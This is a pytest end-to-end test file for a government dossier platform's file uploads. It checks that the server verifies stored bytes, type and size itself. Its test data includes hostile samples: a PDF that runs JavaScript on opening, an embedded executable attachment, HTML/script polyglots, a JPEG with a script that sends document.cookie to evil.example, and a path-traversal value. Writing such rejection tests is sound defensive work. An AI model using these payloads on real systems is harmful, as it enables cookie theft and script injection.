"""Component files over real HTTP: the presigned POST goes to moto's S3, which (unlike S3) enforces
neither the declared content type nor the size range of the policy, so the platform must judge the
stored bytes itself on `/uploads/{id}/complete` and at submission."""

from __future__ import annotations

import hashlib
import io
import uuid

import pikepdf
import pytest
import requests
from PIL import Image

from .conftest import JPEG, PDF, PNG, Api
from .test_dossier_flow import PERSON

pytestmark = pytest.mark.e2e

KIN_CERTIFICATE = "1.010833"  # Hà Nội: application-form (PDF only, 5 MiB) and relationship-proof (PDF/JPEG/PNG)
PROBLEM_JSON = "application/problem+json"


def start_upload(client: Api, component_id: str = "application-form", content_type: str = "application/pdf",
                 size: int = len(PDF), file_name: str = "don-de-nghi.pdf") -> requests.Response:
    return client.post("/uploads", {"procedure_code": KIN_CERTIFICATE, "component_id": component_id,
                                    "file_name": file_name, "content_type": content_type, "size": size})


def send_to_s3(created: dict, content: bytes, content_type: str) -> None:
    target = created["upload"]
    stored = requests.post(target["url"], data=target["fields"],
                           files={"file": ("file.bin", content, content_type)}, timeout=60)
    assert stored.status_code in (200, 201, 204), stored.text


def errors_of(response: requests.Response, status: int = 422) -> list[tuple[str, str]]:
    assert response.status_code == status, response.text
    assert response.headers["Content-Type"].startswith(PROBLEM_JSON)
    assert response.headers.get("X-Correlation-Id")
    body = response.json()
    assert {"type", "title", "status", "detail"} <= body.keys() and body["status"] == status
    return [(e["field"], e["code"]) for e in body.get("errors", [])]


def submission_body(form_upload: str, proof_upload: str) -> dict:
    return {"procedure_code": KIN_CERTIFICATE, "applicant": PERSON, "summary": "Xin cấp giấy xác nhận thân nhân",
            "components": [{"component_id": "application-form", "upload_ids": [form_upload]},
                           {"component_id": "relationship-proof", "upload_ids": [proof_upload]}],
            "delivery": {"method": "online"}}


def submit(client: Api, body: dict) -> requests.Response:
    return client.post("/dossiers", body, headers={"Idempotency-Key": str(uuid.uuid4())})


@pytest.fixture
def citizen(api, make_user) -> Api:
    return api(make_user("citizen"))


def stored_object(aws, stack, created: dict) -> dict:
    """The object as it sits in the documents bucket, behind the API."""
    return aws("s3").get_object(Bucket=stack["DOCUMENTS_BUCKET"], Key=created["upload"]["fields"]["key"])


def test_a_verified_upload_shows_the_sha256_and_size_of_the_bytes_stored(api, aws, stack, citizen, make_user):
    """A photo is re-encoded before it is kept: what rode after its end (here, camera-style binary data) is
    gone, and the size and hash shown are those of the stored object."""
    shade = uuid.uuid4().bytes
    image = io.BytesIO()
    Image.new("RGB", (16, 12), (shade[0], shade[1], shade[2])).save(image, "JPEG")
    photo = image.getvalue()
    content = photo + b"\x00\x01" + uuid.uuid4().bytes * 10
    created = start_upload(citizen, "relationship-proof", "image/jpeg", len(content), "giay-khai-sinh.jpg")
    assert created.status_code == 201, created.text
    upload = created.json()
    assert upload["status"] == "pending" and upload["max_size_bytes"] == 5 * 1024 * 1024
    send_to_s3(upload, content, "image/jpeg")

    verified = citizen.post(f"/uploads/{upload['id']}/complete")
    assert verified.status_code == 200, verified.text
    stored = stored_object(aws, stack, upload)
    kept = stored["Body"].read()
    assert kept == photo and stored["ContentType"] == "image/jpeg"
    expected = {"id": upload["id"], "status": "verified", "procedure_code": KIN_CERTIFICATE,
                "component_id": "relationship-proof", "file_name": "giay-khai-sinh.jpg",
                "content_type": "image/jpeg", "size": len(kept), "sha256": hashlib.sha256(kept).hexdigest(),
                "attached_to": None}
    assert verified.json() == expected
    assert citizen.get(f"/uploads/{upload['id']}").json() == expected
    again = citizen.post(f"/uploads/{upload['id']}/complete")
    assert (again.status_code, again.json()) == (200, expected), "completing twice is harmless"

    for stranger in (api(make_user("citizen")), api("officer.hanoi")):
        for response in (stranger.get(f"/uploads/{upload['id']}"),
                         stranger.post(f"/uploads/{upload['id']}/complete")):
            assert errors_of(response, 404) == []
            assert response.json()["code"] == "upload_not_found"


def test_the_stored_content_type_is_the_verified_one_not_the_clients(aws, stack, citizen):
    created = start_upload(citizen).json()
    target = created["upload"]
    # moto, like a hostile client's own S3 request, lets the form set any Content-Type.
    sent = requests.post(target["url"], data={**target["fields"], "Content-Type": "text/html"},
                         files={"file": ("don.pdf", PDF, "text/html")}, timeout=60)
    assert sent.status_code in (200, 201, 204), sent.text
    assert stored_object(aws, stack, created)["ContentType"] == "text/html"

    verified = citizen.post(f"/uploads/{created['id']}/complete")
    assert verified.status_code == 200, verified.text
    stored = stored_object(aws, stack, created)
    assert stored["ContentType"] == "application/pdf" and stored["Body"].read() == PDF


def hostile_pdf(build) -> bytes:
    pdf, out = pikepdf.new(), io.BytesIO()
    pdf.add_blank_page()
    build(pdf)
    pdf.save(out)
    return out.getvalue()


@pytest.mark.parametrize(("content", "code"), [
    pytest.param(lambda: hostile_pdf(lambda pdf: setattr(pdf.Root, "OpenAction", pikepdf.Dictionary(
        S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.launchURL('https://evil.example')")))),
        "file.pdf_active_content", id="javascript-on-opening"),
    pytest.param(lambda: hostile_pdf(lambda pdf: pdf.attachments.__setitem__(
        "run.exe", pikepdf.AttachedFileSpec(pdf, b"MZ\x90\x00"))), "file.pdf_embedded_files", id="attachment"),
    pytest.param(lambda: b"%PDF-1.7\n<html><body><script>alert(document.cookie)</script></body></html>\n",
                 "file.malformed", id="pdf-header-then-html"),
    pytest.param(lambda: PDF + b"<html><script>alert(1)</script></html>", "file.polyglot", id="pdf-then-html"),
])
def test_a_hostile_pdf_is_refused_with_its_code_and_stays_rejected(citizen, content, code):
    data = content()
    created = start_upload(citizen, size=len(data)).json()
    send_to_s3(created, data, "application/pdf")
    assert errors_of(citizen.post(f"/uploads/{created['id']}/complete")) == [("upload", code)]
    assert citizen.get(f"/uploads/{created['id']}").json()["status"] == "rejected"
    assert errors_of(citizen.post(f"/uploads/{created['id']}/complete")) == [("upload", code)]


def test_a_jpeg_followed_by_a_script_is_refused_as_a_polyglot(citizen):
    content = JPEG + b"<script>fetch('https://evil.example/?' + document.cookie)</script>"
    created = start_upload(citizen, "relationship-proof", "image/jpeg", len(content), "anh.jpg").json()
    send_to_s3(created, content, "image/jpeg")
    assert errors_of(citizen.post(f"/uploads/{created['id']}/complete")) == [("upload", "file.polyglot")]
    again = citizen.post(f"/uploads/{created['id']}/complete", headers={"Accept-Language": "en"})
    assert "another kind of file" in again.json()["errors"][0]["message"]


def test_png_bytes_declared_as_pdf_are_rejected_and_cannot_be_attached(citizen):
    created = start_upload(citizen, size=len(PNG)).json()
    send_to_s3(created, PNG, "application/pdf")
    response = citizen.post(f"/uploads/{created['id']}/complete")
    assert errors_of(response) == [("upload", "file.type_mismatch")]
    assert response.json()["errors"][0]["params"] == {"detected": "image/png", "declared": "application/pdf"}
    assert citizen.get(f"/uploads/{created['id']}").json()["status"] == "rejected"

    proof = citizen.uploaded(KIN_CERTIFICATE, "relationship-proof")
    refused = submit(citizen, submission_body(created["id"], proof))
    assert errors_of(refused) == [("components[0].upload_ids[0]", "upload.rejected")]


def test_a_rejected_upload_that_was_never_completed_is_judged_at_submission(citizen):
    """Submission verifies pending uploads itself: skipping `/complete` does not smuggle a file in."""
    created = start_upload(citizen, size=len(PNG)).json()
    send_to_s3(created, PNG, "application/pdf")
    proof = citizen.uploaded(KIN_CERTIFICATE, "relationship-proof")
    refused = submit(citizen, submission_body(created["id"], proof))
    assert errors_of(refused) == [("components[0].upload_ids[0]", "upload.rejected")]
    assert citizen.get(f"/uploads/{created['id']}").json()["status"] == "rejected"


def test_completing_a_rejected_upload_again_still_fails(citizen):
    created = start_upload(citizen, size=len(PNG)).json()
    send_to_s3(created, PNG, "application/pdf")
    assert errors_of(citizen.post(f"/uploads/{created['id']}/complete")) == [("upload", "file.type_mismatch")]
    retry = citizen.post(f"/uploads/{created['id']}/complete")
    assert errors_of(retry) == [("upload", "file.type_mismatch")]


def test_an_object_larger_than_declared_is_a_size_mismatch(citizen):
    content = PDF + b"%" * 500
    created = start_upload(citizen, size=len(PDF)).json()
    send_to_s3(created, content, "application/pdf")
    response = citizen.post(f"/uploads/{created['id']}/complete")
    assert errors_of(response) == [("upload", "file.size_mismatch")]
    assert response.json()["errors"][0]["params"] == {"size": len(content), "declared": len(PDF)}


def test_an_object_above_the_components_maximum_is_too_large(citizen):
    """The presigned policy says at most 5 MiB; moto stores more anyway, so verification must refuse it."""
    content = PDF + b"0" * (5 * 1024 * 1024)
    created = start_upload(citizen, size=1000).json()
    send_to_s3(created, content, "application/pdf")
    response = citizen.post(f"/uploads/{created['id']}/complete")
    assert errors_of(response) == [("upload", "file.too_large")]
    assert response.json()["errors"][0]["params"] == {"size": len(content), "max": 5 * 1024 * 1024}


@pytest.mark.parametrize(("changes", "expected"), [
    pytest.param({"content_type": "image/png"}, [("content_type", "file.type_not_accepted")], id="type-not-accepted"),
    pytest.param({"content_type": "application/zip"}, [("content_type", "file.type_not_accepted")], id="zip"),
    pytest.param({"size": 5 * 1024 * 1024 + 1}, [("size", "file.too_large")], id="above-component-max"),
    pytest.param({"content_type": "text/html", "size": 10**9},
                 [("content_type", "file.type_not_accepted"), ("size", "file.too_large")], id="both"),
    pytest.param({"size": 0}, [("size", "field.range")], id="empty"),
    pytest.param({"size": "big"}, [("size", "field.number")], id="size-not-a-number"),
    pytest.param({"component_id": "no-such-component"}, [("component_id", "component.unknown")], id="component"),
    pytest.param({"component_id": "../../etc"}, [("component_id", "field.invalid")], id="component-traversal"),
    pytest.param({"procedure_code": "9.999999"}, [("procedure_code", "procedure.not_effective")], id="procedure"),
    pytest.param({"file_name": "x" * 256}, [("file_name", "field.too_long")], id="file-name-too-long"),
    pytest.param({"owner_id": "someone-else"}, [("owner_id", "field.unknown")], id="unknown-field"),
])
def test_asking_to_upload_something_the_component_does_not_take_is_422(citizen, changes, expected):
    body = {"procedure_code": KIN_CERTIFICATE, "component_id": "application-form", "file_name": "a.pdf",
            "content_type": "application/pdf", "size": 1000, **changes}
    assert errors_of(citizen.post("/uploads", body)) == expected


def test_citizens_and_desk_officers_ask_for_uploads_and_nobody_else(api):
    body = {"procedure_code": KIN_CERTIFICATE, "component_id": "application-form", "file_name": "a.pdf",
            "content_type": "application/pdf", "size": 1000}
    assert api("officer.hanoi").post("/uploads", body).status_code == 201  # scanning a walk-in's papers
    for who in ("leader.hanoi", "specialist.hanoi", "admin"):
        assert errors_of(api(who).post("/uploads", body), 403) == [], who


def test_completing_before_anything_was_uploaded_is_a_missing_object_and_can_be_retried(citizen):
    created = start_upload(citizen).json()
    response = citizen.post(f"/uploads/{created['id']}/complete")
    assert errors_of(response) == [("upload", "upload.missing_object")]
    assert citizen.get(f"/uploads/{created['id']}").json()["status"] == "pending"

    proof = citizen.uploaded(KIN_CERTIFICATE, "relationship-proof")
    not_yet = submit(citizen, submission_body(created["id"], proof))
    assert errors_of(not_yet) == [("components[0].upload_ids[0]", "upload.not_verified")]

    send_to_s3(created, PDF, "application/pdf")
    verified = citizen.post(f"/uploads/{created['id']}/complete")
    assert verified.status_code == 200, verified.text
    assert verified.json()["status"] == "verified"


def test_an_upload_cannot_serve_another_component(citizen):
    proof = citizen.uploaded(KIN_CERTIFICATE, "relationship-proof")
    form = citizen.uploaded(KIN_CERTIFICATE, "application-form")
    swapped = submit(citizen, submission_body(proof, form))
    assert errors_of(swapped) == [("components[0].upload_ids[0]", "upload.component_mismatch"),
                                  ("components[1].upload_ids[0]", "upload.component_mismatch")]


def test_an_upload_belongs_to_one_dossier_only(citizen):
    form = citizen.uploaded(KIN_CERTIFICATE, "application-form")
    proof = citizen.uploaded(KIN_CERTIFICATE, "relationship-proof")
    first = submit(citizen, submission_body(form, proof))
    assert first.status_code == 201, first.text
    dossier = first.json()
    assert citizen.get(f"/uploads/{form}").json()["attached_to"] == dossier["id"]

    fresh_proof = citizen.uploaded(KIN_CERTIFICATE, "relationship-proof")
    second = submit(citizen, submission_body(form, fresh_proof))
    assert errors_of(second) == [("components[0].upload_ids[0]", "upload.already_attached")]
    assert second.json()["errors"][0]["params"] == {"upload_id": form}
    assert [d["id"] for d in citizen.get("/dossiers").json()["items"]] == [dossier["id"]]


def test_the_same_upload_twice_in_one_submission_is_refused(citizen):
    form = citizen.uploaded(KIN_CERTIFICATE, "application-form")
    proof = citizen.uploaded(KIN_CERTIFICATE, "relationship-proof")
    body = submission_body(form, proof)
    body["components"][1]["upload_ids"] = [proof, proof]
    assert ("components[1].upload_ids[1]", "upload.duplicate") in errors_of(submit(citizen, body))
